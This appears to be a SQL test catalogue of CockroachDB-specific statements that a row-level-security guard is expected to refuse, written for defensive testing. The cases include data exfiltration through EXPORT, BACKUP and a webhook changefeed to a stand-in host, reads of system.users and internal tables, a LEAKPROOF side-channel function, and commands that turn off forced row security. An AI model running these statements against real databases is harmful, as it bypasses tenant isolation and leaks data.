-- Group 11: CockroachDB's own ways. Without its dialect each of them is refused before anything is sent; with it, the
-- outcome of the catalogue holds. Not run on a CockroachDB server.

-- A176 crdb
-- The keys of ranges are values of rows.
SELECT * FROM [SHOW RANGES FROM TABLE users WITH KEYS];
-- => refused or error 42601

-- A177 crdb
-- A relation by its number.
SELECT * FROM [53 AS t];
-- => refused or error 42601

-- A178 crdb
-- An index hint.
SELECT id FROM orders@{FORCE_INDEX=orders_pkey};
-- => same or refused or error 42601

-- A178.1 crdb
-- A clause that was taken out of the text and not found again in the tree.
SELECT amount@orders_pkey FROM orders;
-- => refused or error

-- A179 crdb
-- The past, with the rows and rights of then.
SELECT id FROM orders AS OF SYSTEM TIME '-1h';
-- => refused or error 42601

-- A179.1 crdb
-- The past of a transaction.
BEGIN AS OF SYSTEM TIME '-1h';
-- => refused or error 42601
SET TRANSACTION AS OF SYSTEM TIME '-1h';
-- => refused or error 42601

-- A180 crdb
-- UPSERT takes over another owner's row by its key.
UPSERT INTO orders (id, tenant_id, user_id, amount, crdb_region) VALUES (25, 1, '{alice}', 1, 'eu-west-1');
-- => refused or error

-- A181 crdb
-- A limited write with its own order.
DELETE FROM orders ORDER BY amount DESC LIMIT 1;
-- => same or refused or error 42601

-- A182 crdb
-- A changefeed needs no more than the right to read, and no rule applies to it.
EXPERIMENTAL CHANGEFEED FOR orders;
-- => refused or error 42601

-- A183 crdb
-- Rows are exported to storage.
EXPORT INTO CSV 'userfile://defaultdb.public.loot/o' FROM SELECT * FROM orders;
-- => refused or error 42601

-- A184 crdb
-- Tracing prints the keys and values that were read.
SET tracing = kv;
-- => refused or error 42601
SHOW TRACE FOR SESSION;
-- => refused or error 42601

-- A185 crdb
-- The statements of others, with their literals.
SELECT query FROM crdb_internal.cluster_queries;
-- => refused

-- A185.1 crdb
-- By the function notation and other schemas of the system.
SELECT crdb_internal.node_id();
-- => refused
SELECT * FROM system.users;
-- => refused
SELECT * FROM "".crdb_internal.tables;
-- => refused or error 42601

-- A186 crdb
-- Any user may open the internals again.
SET allow_unsafe_internals = on;
-- => refused

-- A187 crdb
-- The time at which a row was written.
SELECT crdb_internal_mvcc_timestamp FROM orders;
-- => refused or error 42703

-- A187.1 crdb
-- Other hidden columns.
SELECT rowid, crdb_internal_origin_id, tableoid FROM orders;
-- => refused or error 42703

-- A188 crdb
-- A row is moved to another region.
UPDATE orders SET crdb_region = 'us-east-1' WHERE id = 15;
-- => refused

-- A190 crdb
-- A keyword that Postgres reads as a column.
UPDATE orders SET amount = 1 WHERE id = 15 RETURNING NOTHING;
-- => same or refused or error 42703

-- A191 crdb
-- Anyone may call a function leak-free.
CREATE FUNCTION peek(x INT) RETURNS BOOL IMMUTABLE LEAKPROOF LANGUAGE SQL AS $$ SELECT 1/(x - 4999) >= 0 $$;
-- => refused

-- A192 crdb
-- The definition of a relation holds hidden columns, defaults and policy text.
SHOW CREATE TABLE users;
-- => refused or error 42601

-- A193 crdb
-- Another database on the same connection.
SELECT * FROM otherdb.public.orders;
-- => refused

-- A194 crdb
-- Other ways out and in.
BACKUP TABLE orders INTO 'userfile:///b';
-- => refused or error 42601
IMPORT INTO orders CSV DATA ('userfile:///x.csv');
-- => refused or error 42601
CREATE CHANGEFEED INTO 'webhook-https://sink.test' AS SELECT * FROM orders;
-- => refused or error 42601

-- A195 crdb
-- Changing the second layer itself.
ALTER TABLE orders NO FORCE ROW LEVEL SECURITY;
-- => refused
SET CLUSTER SETTING sql.stats.histogram_collection.enabled = true;
-- => refused or error 42601
ALTER TABLE orders SET LOCALITY REGIONAL BY TABLE;
-- => refused or error 42601
